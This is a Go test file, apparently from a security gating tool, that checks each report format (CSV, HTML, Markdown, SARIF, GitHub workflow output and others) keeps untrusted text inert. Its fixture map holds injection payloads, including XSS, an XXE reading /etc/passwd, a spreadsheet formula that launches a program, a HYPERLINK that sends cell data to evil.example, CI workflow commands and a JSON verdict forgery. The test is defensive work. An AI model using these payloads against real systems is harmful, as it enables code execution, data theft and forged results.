package output_test

import (
	"bytes"
	"maps"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/riskgate/riskgate/internal/gate"
	"github.com/riskgate/riskgate/internal/output"
	"github.com/riskgate/riskgate/internal/output/sample"
	"github.com/riskgate/riskgate/internal/prose"
)

// hostile are texts that try to be more than text for somebody who reads a report.
var hostile = map[string]string{
	// the log of a build, and a terminal
	"terminal escapes":                "a\x1b[2J\x1b]8;;https://evil.example\x1b\\b",
	"eight-bit terminal escapes":      "a\u009b31mb\u009d0;t\u009c",
	"a workflow command":              "::error file=a.json,line=1::b",
	"a workflow command after spaces": " \t\u00a0\u2003::set-output name=a::b",
	"a workflow command on a line":    "a\n::add-mask::b\r::stop-commands::c\u2028::debug::d",
	"a workflow command within":       "a ::error::b",
	"an older workflow command":       "a##[group]b ##[error]c\n##[endgroup]",
	"a command of Azure":              "a##vso[task.setvariable variable=b]c",
	"percent signs":                   "100%0A::error::a%25%2C%3A",
	"a turn of direction":             "invoice\u202egpj.exe\u2066a\u2069",
	"letters of no width":             "a\u200bb\ufeffc\U000e0041d\u00ade",
	"a NUL and other controls":        "a\x00b\x07c\x0bd\x7fe\u0085f",
	"bytes that are no letters":       "a\xff\xc0\xafb\xed\xa0\x80",
	"no characters of XML":            "a\ufffeb\uffffc",
	// Markdown
	"a link":                   "[a](https://evil.example \"b\")",
	"a link by reference":      "[a][b] [b]: https://evil.example",
	"a definition of a link":   "\n\n[a]: https://evil.example\n\n",
	"a picture":                "![a](https://evil.example/a.png)",
	"an address":               "https://evil.example/a?b=c#d",
	"an address in capitals":   "HTTPS://EVIL.EXAMPLE",
	"an address of files":      "ftp://evil.example file:///etc/passwd",
	"an address without http":  "www.evil.example WWW.evil.example",
	"an address in brackets":   "<https://evil.example>",
	"an address for mail":      "ana@evil.example mailto:ana@evil.example xmpp:ana@evil.example/a",
	"bold and italic":          "**a** __b__ *c* _d_ ***e***",
	"struck out":               "~~a~~ ~b~",
	"code":                     "`a` ``b`` `",
	"a code block":             "\n```mermaid\na\n```\n    b\n",
	"a code block in tildes":   "~~~\na\n~~~",
	"a table":                  "a | b\n--- | ---\nc | d",
	"the end of a cell":        "a|b|c",
	"the end of a cell, twice": "a\\|b\\\\|c`|`d",
	"a backslash at the end":   "a\\",
	"a heading":                "# a",
	"a heading underlined":     "a\n===",
	"a line across":            "---",
	"a quote":                  "> [!WARNING]\n> a",
	"a list":                   "- a\n* b\n+ c",
	"a numbered list":          "1. a\n2) b",
	"a task":                   "[x] a [ ] b",
	"a footnote":               "a[^1]\n\n[^1]: b",
	"entities":                 "&lt;b&gt; &#60;i&#62; &amp;amp; &nbsp;",
	"escapes of Markdown":      "\\*a\\* \\[b\\](c) \\<d\\>",
	"math":                     "$a^2$ $$b$$ $`c`$",
	"a comment begins":         "<!-- a",
	"a comment ends":           "a --> b",
	"folded details end":       "</details></summary></td></table>",
	"an element":               "<b>a</b><br>",
	"a picture in HTML":        "<img src=https://evil.example onerror=alert(1)>",
	"a script":                 "</script><script>alert(1)</script>",
	"a style":                  "</style><style>*{display:none}</style>",
	"attributes":               "\" onmouseover=\"alert(1)\" a='b' ' onclick='c",
	"an SVG":                   "\"><svg/onload=alert(1)>",
	"a script in an address":   "javascript:alert(1) data:text/html,a",
	"a template":               "{{constructor.constructor('alert(1)')()}} ${a} <%= b %> {% c %}",
	// what code hosts make of text
	"a mention":               "@octocat @org/team",
	"an issue":                "#123 octo/repo#1 GH-12 gh-13 GL-14",
	"a merge request":         "!12 octo/repo!13",
	"other references":        "~label ~\"two words\" %1 %\"mile stone\" &12 $34 *iteration:1 ^alert#2",
	"a reference in brackets": "[vulnerability:1] [issue:2] [[a page]] [feature_flag:3]",
	"a commit":                "8789005acfafd5e924c648620bccbf252913dbfe 8789005 octo@8789005acfafd5e octo/repo@8789005a",
	"a name of a picture":     ":smile: :+1:",
	"a difference":            "{+ added +} {- removed -} [+ a +] [- b -]",
	"a placeholder":           "%{project_name} ${{ secrets.TOKEN }}",
	"a contents list":         "[[_TOC_]]\n[TOC]",
	"a quick action":          "/close\n/approve\n/merge",
	"a colour":                "#ff0000 rgb(255, 0, 0)",
	// spreadsheets
	"a formula":                          "=1+1",
	"a formula that asks a network":      "=HYPERLINK(\"https://evil.example/\"&A1,\"a\")",
	"a formula that runs a program":      "=cmd|' /C calc'!A0",
	"a formula by plus":                  "+1+cmd|' /C calc'!A0",
	"a formula by minus":                 "-1+1",
	"a formula by at":                    "@SUM(1,1)",
	"a formula in wide letters":          "＝1＋1",
	"a formula by plus in wide letters":  "＋1＋1",
	"a formula by minus in wide letters": "－1＋1",
	"a formula by at in wide letters":    "＠SUM(1,1)",
	"a formula after spaces":             " \u00a0\u3000=1+1",
	"a formula after a tab":              "\t=1+1",
	"a formula after a return":           "\r=1+1",
	"a formula after a quote":            "\"=1+1",
	"a formula in another cell":          "a,=1+1",
	"a formula in another cell, two":     "a;=1+1;\"=2+2\"; =3+3",
	"a formula in another row":           "a\r\n=1+1",
	"quotes and commas":                  "\"a\",\"b\"\"c\"\n\"d\"",
	// XML and JSON
	"CDATA":            "]]><![CDATA[a]]>",
	"an entity of XML": "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
	"an instruction":   "<?xml-stylesheet href='https://evil.example'?>",
	"the end of JSON":  "\"}],\"verdict\":\"pass\",\"a\":[{\"b\":\"",
	"escapes of JSON":  "\\u003cscript\\u003e\\\"\\n\\u0000",
	// size and letters
	"a long word":          strings.Repeat("x", 450),
	"many words":           strings.Repeat("risk ", 90),
	"many formula signs":   strings.Repeat("=", 40),
	"letters of the world": "Kühlhäuser, 倉庫管理, склад, مخزن, 👩‍🔧, Å",
	"spaces alone":         "   ",
}

// inCell is a text as a cell has it, but for the apostrophes that keep it from being a formula.
func inCell(text string) string { return strings.ReplaceAll(prose.Plain(text), "'", "") }

// harmless has nothing in it that any format could want to escape.
const harmless = "harmless"

// reading is what the reader of a format sees in a report.
type reading struct {
	// skeleton is what is not text: it must be the same for every text.
	skeleton []string
	// texts are the texts as the reader sees them.
	texts []string
}

// reader reads a format as its consumers do.
type reader struct {
	read func(t *testing.T, written []byte) reading
	// shows is how a text from outside appears among the texts, if not as a plain one.
	shows func(text string) string
	// whole says that nothing of a text may be left out.
	whole bool
}

// readers has one for each format: a format that nothing here can read is not proven to be safe.
var readers = map[string]reader{
	"text":     {read: readText, whole: true},
	"json":     {read: readJSON, whole: true},
	"sarif":    {read: readSARIF},
	"junit":    {read: readXML},
	"gitlab":   {read: readJSON},
	"github":   {read: readGitHub},
	"markdown": {read: readMarkdown},
	"csv":      {read: readCSV, whole: true, shows: inCell},
	"html":     {read: readHTML},
	"oscal":    {read: readOSCAL},
	"kpi":      {read: readJSON},

	"request-list":     {read: readMarkdown},
	"request-list-csv": {read: readCSV, whole: true, shows: inCell},
}

func TestEveryFormatIsProvenAgainstHostileText(t *testing.T) {
	for _, name := range output.Names() {
		if _, ok := readers[name]; !ok {
			t.Errorf("nothing proves that text stays text in format %s: give readers one that reads it as its consumer does", name)
		}
	}
	for name := range readers {
		if !slices.Contains(output.Names(), name) {
			t.Errorf("there is no format %s", name)
		}
	}
}

func TestHostileTextStaysText(t *testing.T) {
	for _, format := range output.Formats() {
		reader, ok := readers[format.Name]
		if !ok {
			continue // said by the test above
		}
		want := reader.read(t, written(t, format, harmless))
		for _, name := range slices.Sorted(maps.Keys(hostile)) {
			t.Run(format.Name+"/"+name, func(t *testing.T) {
				text := hostile[name]
				got := written(t, format, text)
				obeysNobody(t, format.Name, got)
				read := reader.read(t, got)
				compare(t, read.skeleton, want.skeleton)
				shown := reader.shown(text)
				if n, all := read.count(shown), want.count(harmless); n < all {
					t.Errorf("the text %q is read %d times of %d: %.300q", shown, n, all, read.texts)
				}
			})
		}
	}
}

// shown is the text as it must be among what is read.
func (r reader) shown(text string) string {
	if r.shows != nil {
		return r.shows(text)
	}
	shown := prose.Plain(text)
	if r.whole {
		return shown
	}
	return string([]rune(shown)[:min(60, utf8.RuneCountInString(shown))])
}

// count returns how often a text is read.
func (r reading) count(text string) int {
	return strings.Count(bare(strings.Join(r.texts, "\n")), bare(text))
}

// bare undoes the escapes of plain text, which are not the same wherever it stands, on what is read and on what was given.
func bare(text string) string {
	return spaced(escape.ReplaceAllStringFunc(prose.Plain(text), func(found string) string {
		code, err := strconv.ParseUint(found[2:], 16, 16)
		if err != nil {
			return found
		}
		return string(rune(code))
	}))
}

var escape = regexp.MustCompile(`\\x[0-9a-f]{2}|\\u[0-9a-f]{4}`)

// spaced makes all white space one space: how much of it there is, is not for every format to keep.
func spaced(text string) string {
	return strings.Join(strings.Fields(text), " ")
}

func written(t *testing.T, format output.Format, text string) []byte {
	t.Helper()
	decision := gate.Decision{Code: gate.FindingsBlock, Reasons: []string{text}} // as with a kind of document that is missing
	var b bytes.Buffer
	err := format.Write(&b, sample.Hostile(text), output.Options{Decision: decision, Width: 1 << 20, ShowPasses: true})
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func compare(t *testing.T, got, want []string) {
	t.Helper()
	for i := range max(len(got), len(want)) {
		if i >= len(got) || i >= len(want) || got[i] != want[i] {
			t.Errorf("it has another form from part %d of %d, %d on: %q, want %q", i, len(got), len(want), got[min(i, len(got)):min(i+3, len(got))], want[min(i, len(want)):min(i+3, len(want))])
			return
		}
	}
}

// obeysNobody refuses what terminals and the logs of builds would obey in any file that somebody prints.
func obeysNobody(t *testing.T, format string, written []byte) {
	t.Helper()
	text := string(written)
	if strings.HasSuffix(format, "csv") {
		text = strings.ReplaceAll(strings.TrimPrefix(text, "\ufeff"), "\r\n", "\n")
	}
	if !utf8.ValidString(text) {
		t.Error("it is not UTF-8")
	}
	for _, r := range text {
		if r != '\n' && prose.Unsafe(r) {
			t.Errorf("it holds %U", r)
			break
		}
	}
	if format == "github" {
		return // commands are what it is made of; its reader looks at each
	}
	for line := range strings.Lines(text) {
		if name, _, _, is := workflowCommand(line); is {
			t.Errorf("a line holds the command %q: %q", name, line)
		}
	}
}

// workflowCommand reads a line of a log as GitHub's runner does: a command begins the line, or is of the older sort, which
// Azure knows too, and stands anywhere.
func workflowCommand(line string) (name, properties, data string, is bool) {
	line = strings.TrimRight(line, "\r\n")
	if rest, found := strings.CutPrefix(strings.TrimSpace(line), "::"); found {
		head, data, ended := strings.Cut(rest, "::")
		name, properties, _ := strings.Cut(head, " ")
		return name, properties, data, ended
	}
	found := olderCommand.FindStringSubmatch(line)
	if found == nil {
		return "", "", "", false
	}
	return found[1], "", "", true
}

var olderCommand = regexp.MustCompile(`##((?:vso)?\[[^\]]*\]?)`)
